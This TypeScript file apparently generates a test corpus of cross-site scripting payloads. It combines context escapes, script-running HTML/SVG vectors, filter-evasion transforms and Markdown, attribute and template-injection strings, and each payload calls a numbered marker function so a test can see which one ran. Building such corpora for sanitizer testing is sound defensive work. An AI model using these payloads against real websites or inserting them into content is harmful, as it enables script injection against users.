// Texts that run a script wherever one is taken for markup, an address or code, derived from
// what a text may have to leave first, what runs then, and how it hides from a filter. Each says
// which one it is: `ran(17)` is what the seventeenth would call.

/** What ends the place in which a text stands. */
const exits = [
  '',
  '">',
  "'>",
  '</script>',
  '</style>',
  '</textarea>',
  '</title>',
  '-->',
  ']]>',
  '</noscript>',
  '</template>',
  '</select></svg></math>',
  '\\">',
  '`}>',
]

/** What runs, where markup may begin. */
const vectors = [
  '<script>RUN</script>',
  '<img src=x onerror=RUN>',
  '<svg onload=RUN>',
  '<svg><script>RUN</script></svg>',
  '<svg><animate onbegin=RUN attributeName=x dur=1s>',
  '<svg><set attributeName=onmouseover to=RUN onbegin=RUN>',
  '<math><mtext><table><mglyph><style><img src=x onerror=RUN></style></mglyph></table></mtext></math>',
  '<body onload=RUN>',
  '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
  '<iframe src="javascript:parent.RUN"></iframe>',
  '<iframe onload=RUN></iframe>',
  '<object data="javascript:RUN"></object>',
  '<input autofocus onfocus=RUN>',
  '<select autofocus onfocus=RUN></select>',
  '<p tabindex=1 autofocus onfocus=RUN>',
  '<details open ontoggle=RUN>x</details>',
  '<video><source onerror=RUN></video>',
  '<audio src=x onerror=RUN></audio>',
  '<style onload=RUN></style>',
  '<link rel=stylesheet href="data:text/css," onload=RUN>',
  '<a href="javascript:RUN">x</a>',
  '<form action="javascript:RUN"><button>x</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:RUN">',
  '<p style="animation:k-fade 1s" onanimationstart=RUN>',
  '<x onclick=RUN>x</x>',
]

const caps = (text: string) =>
  text.replace(/(<\/?)([a-z]+)/g, (_, start: string, name: string) =>
    [start, ...[...name].map((letter, at) => (at % 2 ? letter : letter.toUpperCase()))].join(''),
  )

/** How it hides. */
const disguises: readonly ((text: string) => string)[] = [
  (text) => text,
  caps,
  (text) => text.replaceAll(/<(\w+) /g, '<$1/'),
  (text) => text.replaceAll(/<(\w+) /g, '<$1\t'),
  (text) => text.replace('<', '<<'),
  (text) => text.replace(/=RUN/g, '="RUN"').replace('javascript:', 'java&Tab;script:'),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
]

/** What runs without markup of its own: addresses, attributes, code, and the signs of Markdown. */
const bare = [
  '[x](javascript:RUN)',
  '[x](JaVaScRiPt&#58;RUN)',
  '[x](java\tscript:RUN)',
  '[x](<javascript:RUN>)',
  '[x](data:text/html,<script>RUN</script>)',
  '![x](javascript:RUN)',
  '![x](x "onerror=RUN")',
  '![x"onerror="RUN](x)',
  '<javascript:RUN>',
  '[x][k]\n\n[k]: javascript:RUN',
  '```js" onload="RUN\nx\n```',
  'javascript:RUN',
  ' javascript:RUN',
  'javascript://%0aRUN',
  'data:text/html,<script>RUN</script>',
  '" onmouseover="RUN" autofocus onfocus="RUN" x="',
  "' autofocus onfocus='RUN' x='",
  '` onfocus=RUN x=`',
  '");RUN;//',
  "');RUN;//",
  '`-RUN-`',
  '${RUN}',
  '{{constructor.constructor("RUN")()}}',
  '"}</script><script>RUN</script>',
  '\\u003cscript\\u003eRUN\\u003c/script\\u003e',
  '\u2028RUN//',
  '＜script＞RUN＜/script＞',
  '\u202e<script>RUN</script>',
  '+ADw-script+AD4-RUN+ADw-/script+AD4-',
]

/** All of them, none twice; `#17#` marks the seventeenth wherever it is shown. */
export const derivedPayloads: readonly string[] = [
  ...new Set([
    ...exits.flatMap((exit) =>
      vectors.flatMap((vector) => disguises.map((disguise) => exit + disguise(vector))),
    ),
    ...bare,
  ]),
].map((text, n) => `${text.replaceAll('RUN', `ran(${n})`)} #${n}#`)
